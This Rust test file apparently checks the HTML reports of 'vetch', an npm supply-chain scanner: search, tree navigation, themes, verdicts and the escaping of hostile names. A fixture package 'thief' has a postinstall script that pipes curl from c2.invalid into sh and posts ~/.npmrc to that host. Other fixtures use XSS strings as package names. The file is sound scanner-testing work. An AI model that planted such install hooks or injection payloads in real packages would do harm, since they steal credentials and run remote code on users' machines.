//! Pages, as a browser shows them: `graph`, `scan` and `inspect` with `--format html`.
//!
//! Where Chromium is not installed these tests say so and pass; in CI that is a failure. With `SCREENSHOTS=FOLDER` they
//! leave pictures there to be looked at.

use serde_json::{Value, json};
use vetch_testkit::{Browser, Pkg, Project};

use crate::vetch;

/// A name that would be markup, a script's end and a comment, if it were not escaped.
const HOSTILE: &str = "<img src=x onerror=alert(1)></script><!--\u{202e}evil";

fn project() -> Project {
    let thief = Pkg::new("thief", "6.6.6").script("postinstall", "node steal.js").file(
        "steal.js",
        "const cp = require('child_process');\ncp.exec('curl http://c2.invalid/x | sh');\n\
         require('https').request({ host: 'c2.invalid', method: 'POST' }).end(require('fs').readFileSync(require('os').homedir() + '/.npmrc'));\n",
    );
    let plain = |name: &str, version: &str| Pkg::new(name, version).file("index.js", "module.exports = 1;\n");
    Project::builder("shop")
        .dep("web", "^1.0.0")
        .dep("tool", "^2.0.0")
        .install(plain("web", "1.0.0").dep("deep", "^1.0.0"))
        .install(plain("deep", "1.2.0").dep("thief", "*"))
        .install(plain("tool", "2.0.0").dep("deep", "^1.0.0").dep("lone", "1"))
        .install(plain("lone", "1.0.0"))
        .install(thief)
        .build()
}

/// The lockfile of [`project`] with a package of a hostile name.
fn hostile_project() -> Project {
    let project = Project::builder("shop").build();
    let lock = json!({
        "name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": { "name": "shop", "version": "1.0.0", "dependencies": { "odd": "*" } },
            "node_modules/odd": { "name": HOSTILE, "version": "1.0.0</script>", "resolved": "https://x.invalid/\"><script>alert(1)</script>",
                "deprecated": "<b onclick=alert(1)>\u{2028}\u{2066}" },
        }
    });
    project.write("package-lock.json", format!("{lock:#}"));
    project
}

fn page(project: &Project, arguments: &[&str]) -> std::path::PathBuf {
    let mut all = arguments.to_vec();
    all.extend(["--output", "page.html"]);
    vetch(&all).dir(project.root()).home(project.home()).run();
    project.root().join("page.html")
}

fn picture(browser: &mut Browser, name: &str) {
    if let Some(folder) = std::env::var_os("SCREENSHOTS") {
        std::fs::write(std::path::Path::new(&folder).join(name), browser.screenshot()).unwrap();
    }
}

/// Nothing was fetched but the page, and nothing complained.
fn is_quiet(browser: &mut Browser) {
    let asked = browser.text("performance.getEntriesByType('resource').length");
    assert_eq!(asked, "0");
    assert_eq!(browser.requests().len(), 1, "{:?}", browser.requests());
    assert_eq!(browser.complaints(), [] as [String; 0]);
}

const SELECTED: &str = "explorer.model.nodes.find((node) => node.label === document.querySelector('#details h2').textContent)?.label || ''";
const PATH: &str =
    "[...document.querySelectorAll('#tree .row.path .name')].map((name) => name.textContent).join(' > ')";

#[test]
fn the_graph_is_searched_walked_and_coloured() {
    let project = project();
    let Some(mut browser) = Browser::start() else { return };
    page(&project, &["scan", "--offline", "--format", "json"]);
    std::fs::rename(project.root().join("page.html"), project.root().join("report.json")).unwrap();
    let file = page(&project, &["graph", "--format", "html", "--report", "report.json"]);
    browser.open(&file, true);
    is_quiet(&mut browser);
    assert_eq!(browser.text("document.querySelectorAll('#by-verdict[aria-checked=true]').length"), "1");
    // Search: `/`, a part of a name, Enter.
    browser.press("/");
    assert_eq!(browser.text("document.activeElement.id"), "search");
    browser.type_text("thi");
    assert_eq!(browser.text("document.querySelector('#results [aria-selected=true]').textContent"), "thief6.6.6");
    picture(&mut browser, "graph-search.png");
    browser.press("Enter");
    assert_eq!(browser.text(SELECTED), "thief@6.6.6");
    // The way in, the verdict and the reasons.
    assert_eq!(browser.text(PATH), "shop > web > deep > thief");
    let details = browser.text("document.getElementById('details').innerText");
    for text in ["malicious", "pkg:npm/thief@6.6.6", "Who pulls this in", "package-lock.json:", "Risk: score"] {
        assert!(details.to_lowercase().contains(&text.to_lowercase()), "{text} in {details}");
    }
    picture(&mut browser, "graph-selected.png");
    // Keys in the tree: to its parent, closed, up.
    assert_eq!(browser.text("document.activeElement.id"), "tree");
    browser.press("ArrowLeft");
    assert_eq!(browser.text(SELECTED), "deep@1.2.0");
    browser.press("ArrowLeft");
    let closed = "document.querySelector('#tree .row.active').getAttribute('aria-expanded')";
    assert_eq!(browser.text(closed), "false");
    browser.press("ArrowRight");
    browser.press("ArrowRight");
    assert_eq!(browser.text(SELECTED), "thief@6.6.6");
    // Who pulls it in.
    browser.press("r");
    browser.press("ArrowRight");
    let rows = "[...document.querySelectorAll('#tree .row .name')].map((name) => name.textContent).join(' ')";
    assert!(browser.text(rows).starts_with("thief deep"), "{}", browser.text(rows));
    browser.press("Escape");
    assert_eq!(browser.text(SELECTED), "");
    is_quiet(&mut browser);
}

#[test]
fn the_picture_is_clicked_and_the_theme_turned() {
    let project = project();
    let Some(mut browser) = Browser::start() else { return };
    let file = page(&project, &["graph", "--format", "html"]);
    browser.prefer("light");
    browser.open(&file, true);
    assert_eq!(browser.text("document.getElementById('by-verdict').disabled"), "true");
    let place = "(() => { const box = document.getElementById('canvas').getBoundingClientRect(); \
         const at = explorer.picture.place(explorer.model.nodes.find((node) => node.name === 'lone').index); \
         return [box.x + at[0], box.y + at[1]]; })()";
    let place: Value = browser.evaluate(place);
    browser.click_at(place[0].as_f64().unwrap(), place[1].as_f64().unwrap());
    assert_eq!(browser.text(SELECTED), "lone@1.0.0");
    assert_eq!(browser.text(PATH), "shop > tool > lone");
    let paper = "getComputedStyle(document.body).backgroundColor";
    let light = browser.text(paper);
    browser.click("#theme");
    let dark = browser.text(paper);
    assert_ne!(light, dark);
    browser.press("t");
    assert_eq!(browser.text(paper), light);
    browser.prefer("dark");
    browser.open(&file, true);
    assert_eq!(browser.text(paper), dark);
    // The legend shows one class only; the tree can be closed and opened.
    browser.click("#legend [data-class=none]");
    assert_eq!(
        browser.text("document.querySelector('#legend [data-class=none]').getAttribute('aria-pressed')"),
        "true"
    );
    browser.click("#expand");
    let rows = "document.querySelectorAll('#tree .row').length";
    assert!(browser.text(rows).parse::<u32>().unwrap() > 5);
    browser.click("#collapse");
    assert_eq!(browser.text(rows), "1");
    is_quiet(&mut browser);
}

#[test]
fn hostile_names_are_shown_as_text() {
    let project = hostile_project();
    let Some(mut browser) = Browser::start() else { return };
    for arguments in [&["graph", "--format", "html"][..], &["scan", "--offline", "--format", "html"]] {
        let file = page(&project, arguments);
        browser.open(&file, true);
        browser.click("#expand");
        let tree = browser.text("document.getElementById('tree').innerText");
        assert!(tree.contains("<img src=x onerror=alert(1)></script><!--\\u{202e}evil"), "{tree}");
        assert_eq!(browser.text("document.querySelectorAll('img, b, #tree script, #details script').length"), "0");
        browser.press("/");
        browser.type_text("onerror");
        browser.press("Enter");
        let details = browser.text("document.getElementById('details').innerText");
        assert!(details.contains("1.0.0</script>"), "{details}");
        assert_eq!(browser.text("document.querySelectorAll('script').length"), "2");
        is_quiet(&mut browser);
    }
}

#[test]
fn a_report_is_read_filtered_and_followed() {
    let project = project();
    let Some(mut browser) = Browser::start() else { return };
    let file = page(&project, &["scan", "--offline", "--format", "html"]);
    browser.resize(1400, 1000);
    browser.prefer("light");
    browser.open(&file, true);
    picture(&mut browser, "scan-light.png");
    let text = browser.text("document.querySelector('main').innerText");
    for wanted in
        ["thief@6.6.6", "steal.js:", "curl http://c2.invalid/x", "What to do", "How it got in", "Behaviour profile"]
    {
        assert!(text.contains(wanted), "{wanted} in {text}");
    }
    let open = "[...document.querySelectorAll('details.release[open] .name')].map((name) => name.textContent).join()";
    assert_eq!(browser.text(open), "thief@6.6.6");
    browser.click("#filter");
    browser.type_text("lone");
    let shown =
        "[...document.querySelectorAll('.release')].filter((one) => !one.hidden).map((one) => one.dataset.name).join()";
    assert_eq!(browser.text(shown), "lone@1.0.0 clean");
    // The graph knows the verdicts.
    let verdict = "explorer.model.nodes.find((node) => node.name === 'thief').verdict";
    assert_eq!(browser.text(verdict), "malicious");
    is_quiet(&mut browser);
}

#[test]
fn an_inspection_is_a_quiet_page_without_script() {
    let project = project();
    let Some(mut browser) = Browser::start() else { return };
    let file = page(&project, &["inspect", "thief", "--offline", "--format", "html"]);
    browser.open(&file, false);
    picture(&mut browser, "inspect.png");
    assert_eq!(browser.text("document.querySelectorAll('script').length"), "0");
    assert!(browser.text("document.querySelector('h1').textContent").contains("thief@6.6.6"));
    is_quiet(&mut browser);
}

#[test]
fn a_page_is_the_same_every_time_and_allows_nothing_else() {
    let project = project();
    for arguments in [&["graph", "--format", "html"][..], &["scan", "--offline", "--format", "html"]] {
        let read = |file: std::path::PathBuf| std::fs::read_to_string(file).unwrap();
        let (first, second) = (read(page(&project, arguments)), read(page(&project, arguments)));
        assert_eq!(first, second);
        assert!(first.contains("default-src 'none'; style-src 'sha256-") && first.contains("script-src 'sha256-"));
        assert!(!first.contains("unsafe-") && !first.contains(" style=") && !first.contains(" onclick="));
    }
}

#[test]
fn mistakes_with_a_report_are_said() {
    let project = project();
    project.write("other.json", "{\"schema\":\"x/1\",\"releases\":[]}");
    let run = |arguments: &[&str]| vetch(arguments).dir(project.root()).home(project.home()).run();
    for (report, expected) in [("missing.json", "cannot use the report"), ("other.json", "its schema is `x/1`")] {
        let run = run(&["graph", "--format", "html", "--report", report]).expect(2);
        assert!(run.stderr.contains(expected) && run.stderr.contains("vetch scan --format json"), "{}", run.stderr);
    }
    assert!(run(&["graph", "--report", "other.json"]).expect(2).stderr.contains("--format html"));
}
